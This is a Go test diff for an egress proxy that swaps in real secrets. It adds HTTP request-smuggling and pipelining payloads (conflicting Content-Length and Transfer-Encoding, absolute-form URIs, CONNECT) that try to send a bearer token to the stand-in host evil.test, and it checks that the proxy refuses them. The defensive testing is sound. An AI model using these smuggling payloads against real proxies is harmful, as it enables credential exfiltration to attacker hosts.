@@ -313,6 +313,34 @@ func TestTransparentSecretsTricks(t *testing.T) {
 		}
 		return true
 	})
+	// Smuggling and pipelining on one connection: a second request to
+	// another host, hidden in a body whose length reads two ways, or
+	// written after the first, is read by the egress as a request of its
+	// own and refused; absolute-form names its own host, CONNECT and
+	// HTTP/1.0 without Host are refused.
+	for _, raw := range []string{
+		"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
+		"GET / HTTP/1.1\r\nHost: api.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
+		"GET http://evil.test/ HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
+		"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
+		"GET / HTTP/1.0\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
+	} {
+		c := tls.Client(b.dial("api.test:"+pa), &tls.Config{ServerName: "api.test", RootCAs: boxRoots})
+		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
+		io.WriteString(c, raw)
+		got, _ := io.ReadAll(c)
+		c.Close()
+		if strings.Contains(string(got), "sk-real-value") || strings.Contains(string(got), "evil.test auth") {
+			t.Errorf("%q: %q", raw, got)
+		}
+	}
+	hosts.Range(func(k, _ any) bool {
+		if strings.Contains(k.(string), "evil") {
+			t.Errorf("the destination got Host %q", k)
+		}
+		return true
+	})
+	hosts.Clear()
 	// Another spelling of the name: the destination gets the name.
 	if code, body := send(true, pa, "GET", "API.Test.:"+pa); code != 200 || !strings.Contains(body, "host=api.test:"+pa+" ") || !strings.Contains(body, "auth=Bearer sk-real-value") {
 		t.Errorf("Host in capitals with a dot: %d %q", code, body)
